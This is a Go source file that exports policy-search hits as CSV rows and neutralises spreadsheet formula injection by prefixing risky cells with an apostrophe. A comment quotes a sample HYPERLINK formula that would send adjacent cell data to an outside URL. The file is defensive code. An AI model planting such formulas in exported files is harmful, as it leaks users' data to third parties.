package policysearch

import (
	"strconv"
	"strings"
)

// ExportColumns are the columns of a CSV export, the same from the API and the CLI so
// that a researcher's scripts read either. Lists are joined with "；", which no
// issuer or unit name contains.
var ExportColumns = []string{"id", "doc_id", "doc_title", "issuers", "region", "level", "date", "year", "doc_number",
	"doc_type", "section_path", "measure_no", "measure_title", "kind", "responsible_units", "score", "text"}

// ExportRow is a hit as a CSV row in ExportColumns order. Every cell that comes from a
// document is passed through CSVCell, since the CSV is made to be opened in a
// spreadsheet and a document is whatever its uploader wrote.
func ExportRow(h Hit) []string {
	year := ""
	if len(h.Date) >= 4 {
		year = h.Date[:4]
	}
	row := []string{h.ID, h.DocID, h.DocTitle, strings.Join(h.Issuers, "；"), h.Region, h.Level, h.Date, year, h.DocNumber,
		h.DocType, strings.Join(h.SectionPath, " > "), h.MeasureNo, h.MeasureTitle, h.Kind,
		strings.Join(h.ResponsibleUnits, "；"), "", h.Text}
	for i := range row {
		row[i] = CSVCell(row[i])
	}
	// The score is a number this program formats; it is the one cell left as it is.
	row[15] = strconv.FormatFloat(h.Score, 'f', 4, 64)
	return row
}

// CSVCell neutralises a cell that a spreadsheet would run as a formula: one that starts
// with =, +, -, @, a tab or a carriage return gets a leading apostrophe (the OWASP rule
// for CSV injection), which spreadsheets show as text and do not evaluate. A title such
// as =HYPERLINK("http://…?leak="&A2) would otherwise send a cell's neighbours away.
func CSVCell(s string) string {
	if s == "" {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return "'" + s
	}
	return s
}
